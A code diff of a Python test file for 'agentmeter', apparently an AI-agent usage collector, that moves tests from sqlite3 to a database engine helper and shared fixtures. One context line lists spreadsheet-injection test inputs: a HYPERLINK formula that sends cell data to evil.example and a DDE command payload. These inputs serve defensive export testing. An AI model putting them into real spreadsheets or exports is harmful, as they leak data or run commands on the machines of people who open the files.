@@ -6,11 +6,11 @@ from __future__ import annotations
 import csv
 import io
 import json
-import sqlite3
 
 import pytest
 from aiohttp import web
 
+from agentmeter.collector import engine
 from agentmeter.core.models import RequestRecord, Usage
 from agentmeter.ledger import open_ledger
 from conftest import run_cli
@@ -22,8 +22,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C cal
 
 
 @pytest.fixture
-def collector(tmp_path):
-    c = Collector(tmp_path / "team.db").start()
+def collector(collector_db):
+    c = Collector(collector_db).start()
     yield c
     c.close()
 
@@ -64,13 +64,12 @@ def test_huge_numbers_are_skipped_and_team_reports_keep_working(collector):
 def test_sums_of_old_rows_cannot_overflow(collector):
     """Rows an older collector accepted (up to 2**62 each) still add up, in floating point, without a 500."""
     collector.token("x@example.com")  # the store exists
-    conn = sqlite3.connect(collector.db)
+    conn = engine.connect(collector.db)
     for i in range(3):
         conn.execute("INSERT INTO rollups (developer, item_key, device_id, team, cost_center, day, agent, provider, "
                      "model, repo, subscription, requests, output_tokens, cost_usd, cost_by_type, received_at) VALUES "
                      "('old@example.com', ?, 'device-0001', 't', '', '2026-11-18', 'claude', 'anthropic', 'm', '', 0, "
                      "?, ?, 1.0, '{}', 1)", (f"{i}" * 64, 2**62, 2**62))
-    conn.commit()
     conn.close()
     status, body = report(collector, "team")
     assert status == 200 and body["totals"]["requests"] >= 2**62  # saturates near 2**63 instead of failing
@@ -96,7 +95,7 @@ def test_long_branch_and_model_names_never_block_a_sync(collector, tmp_path):
     assert first["pushed"]["sessions"] == 2 and first["pushed"]["rollups"] == 2
     again = dev.sync(collector.url)
     assert again["ok"] and again["pushed"] == {"rollups": 0, "sessions": 0, "deleted": 0}
-    conn = sqlite3.connect(collector.db)
+    conn = engine.connect(collector.db)
     branch = conn.execute("SELECT branch FROM sessions WHERE session_id = 's-long'").fetchone()[0]
     models = [r[0] for r in conn.execute("SELECT model FROM rollups")]
     conn.close()
@@ -118,8 +117,8 @@ def _stricter(marker: bytes):
     return refuse
 
 
-def test_a_permanently_refused_item_is_skipped_and_never_blocks_the_rest(tmp_path):
-    c = Collector(tmp_path / "strict.db", middlewares=[_stricter(b"poison-repo")]).start()
+def test_a_permanently_refused_item_is_skipped_and_never_blocks_the_rest(tmp_path, make_collector_db):
+    c = Collector(make_collector_db("strict"), middlewares=[_stricter(b"poison-repo")]).start()
     try:
         dev = Client(tmp_path / "dev", "alice@example.com", token=c.token("alice@example.com"))
         for day in range(12):
@@ -158,8 +157,8 @@ def test_team_and_cost_centre_are_the_tokens_not_the_pushs(collector, tmp_path):
     assert {r["key"]: r["requests"] for r in by_team["rows"]} == {"payments": 3, "": 3}
 
 
-def test_token_add_sets_the_cost_centre(tmp_path):
-    db = tmp_path / "team.db"
+def test_token_add_sets_the_cost_centre(collector_db):
+    db = collector_db
     r = run_cli("collector", "token", "add", "--db", str(db), "--developer", "a@example.com", "--team", "payments",
                 "--cost-center", "CC-7", "--json")
     assert r.returncode == 0, r.stderr
